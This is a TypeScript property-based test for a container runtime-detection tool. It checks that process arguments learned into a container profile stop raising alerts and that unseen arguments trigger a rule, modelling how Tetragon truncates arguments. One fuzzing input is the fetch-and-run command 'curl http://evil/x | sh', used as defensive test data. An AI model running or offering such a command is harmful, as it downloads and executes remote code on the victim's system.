import { createDetector, loadBuiltinRules } from "@kinglet/detection";
import { ExecEvent, type ContainerIdentity } from "@kinglet/enrichment";
import { openLearner } from "@kinglet/learning";
import { ManualClock } from "@kinglet/lifecycle";
import { noopLogger } from "@kinglet/logger";
import { noopMetrics } from "@kinglet/metrics";
import type { ContainerProfile } from "@kinglet/profile";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { heldProfile } from "../../../../test/unit/held-profile.ts";

const identity: ContainerIdentity = {
  containerId: "ab".repeat(32),
  podUid: "uid-1",
  namespace: "shop",
  podName: "web-1",
  containerName: "web",
  containerType: "containers",
  image: "web:1",
  imageId: "web@sha256:1",
  nodeName: "node-1",
  ownerApiVersion: "apps/v1",
  ownerKind: "ReplicaSet",
  ownerName: "web",
  templateHash: "77b4",
  podLabels: {},
};

/** What these executions leave in the profile of their container, as rules see it. */
async function learned(events: readonly ExecEvent[]): ReturnType<typeof heldProfile> {
  const clock = new ManualClock();
  const stop = new AbortController();
  let stored: ContainerProfile | undefined;
  const learner = await openLearner({
    store: {
      update: async (_namespace, _name, merge) => {
        stored = merge(stored) ?? stored;
        return { outcome: "written" };
      },
    },
    timings: { maxLearningMs: 100_000 },
    clock,
    logger: noopLogger,
    metrics: noopMetrics,
  });
  const running = learner.run({ signal: stop.signal });
  learner.containerStarted(identity, { profileName: "web", isAlreadyRunning: false });
  for (const event of events) learner.record(event, identity);
  for (let times = 0; times < 60; times++) await clock.advance(5_000);
  stop.abort(new Error("the test is over"));
  await running;
  await learner[Symbol.asyncDispose]();
  expect(stored?.metadata.annotations?.["kubescape.io/status"]).toBe("completed");
  return heldProfile(stored!);
}

/** As Tetragon v1.7.0 joins the arguments that the kernel gives it, of which it keeps so many characters. */
function toldBy(binary: string, args: readonly string[], kept: number): ExecEvent {
  let text = "";
  let left = kept;
  for (const arg of args.slice(0, args.findLastIndex((one) => one !== "") + 1)) {
    if (left <= 0) break;
    const part = arg.slice(0, left);
    left -= arg.length + 1;
    if (part.includes(" ")) text += ` "${part}"`;
    else text += text === "" ? part : ` ${part}`;
  }
  const isTruncated = left < 0;
  const flags = isTruncated ? "execve clone truncArgs" : "execve clone";
  return new ExecEvent({ sequence: 1, source: "tetragon", pid: 7, binary, args: text, flags, isTruncated });
}

const argument = fc.oneof(
  fc.string({ unit: fc.constantFrom("a", "b", " ", '"', "'", "\\", "-", "\ufffd", "\u00e9"), maxLength: 6 }),
  fc.constantFrom("-c", "", "a b", "curl http://evil/x | sh", "x\u22ef", "--password", "[redacted]"),
  fc.constant("x ".repeat(9_000)),
);
const kept = fc.oneof({ weight: 4, arbitrary: fc.constant(Number.POSITIVE_INFINITY) }, fc.nat(40));
/** Of one program: what it is executed with while it is learned, and afterwards. */
const program = fc.tuple(
  fc.array(fc.tuple(fc.array(argument, { maxLength: 5 }), kept), { minLength: 1, maxLength: 4 }),
  fc.array(fc.tuple(fc.array(argument, { maxLength: 5 }), kept), { maxLength: 4 }),
);

describe("arguments that were learned", () => {
  it("are no alert afterwards, however the source told them, and others are", { timeout: 60_000 }, async () => {
    const programs = fc.sample(program, { seed: 7, numRuns: 800 }).map(([before, after], at) => {
      const events = (runs: typeof before) => runs.map(([args, length]) => toldBy(`/bin/p${at}`, args, length));
      return { before: events(before), after: events(after) };
    });
    const profile = await learned(programs.flatMap(({ before }) => before));
    const detector = createDetector({
      rules: (await loadBuiltinRules()).filter(({ id }) => id === "R0001" || id === "R0040"),
      profiles: { get: () => profile },
      clusterName: "",
      nodeName: "node-1",
      logger: noopLogger,
      metrics: noopMetrics,
    });
    await detector.prepare();
    const idsOf = (event: ExecEvent) => detector.detect(event, identity).map(({ ruleId }) => ruleId);
    const counts = { unknown: 0, alerts: 0, unknownAlerts: 0 };
    for (const { before, after } of programs) {
      for (const event of before) {
        if (event.argv === undefined) counts.unknown++;
        expect(idsOf(event), JSON.stringify([event.args, event.flags])).toEqual([]);
      }
      // A program whose arguments were known each time, so that the profile has them as they were.
      const isExact = before.every(({ argv }) => argv !== undefined);
      if (!isExact || before.some(({ args }) => args.length > 10_000)) continue;
      for (const event of after) {
        const known = before.map(({ args }) => args.replace(/\ufffd+/g, "\ufffd"));
        const text = event.args.replace(/\ufffd+/g, "\ufffd");
        const isKnown = event.isTruncated ? known.some((one) => mayBegin(one, text)) : known.includes(text);
        if (event.isTruncated && isKnown) continue;
        expect(idsOf(event), JSON.stringify([event.args, known])).toEqual(isKnown ? [] : ["R0040"]);
        if (isKnown) continue;
        counts.alerts++;
        if (event.argv === undefined) counts.unknownAlerts++;
      }
    }
    expect(counts.unknown).toBeGreaterThan(300);
    expect(counts.alerts).toBeGreaterThan(100);
    expect(counts.unknownAlerts).toBeGreaterThan(50);
  });
});

/** Generously: what was cut may have lost a part of its last argument, and has quotes that the whole one may have elsewhere. */
function mayBegin(whole: string, text: string): boolean {
  const plain = (told: string): string => told.replaceAll(/[" ]|\ufffd$/g, "");
  return plain(whole).startsWith(plain(text));
}
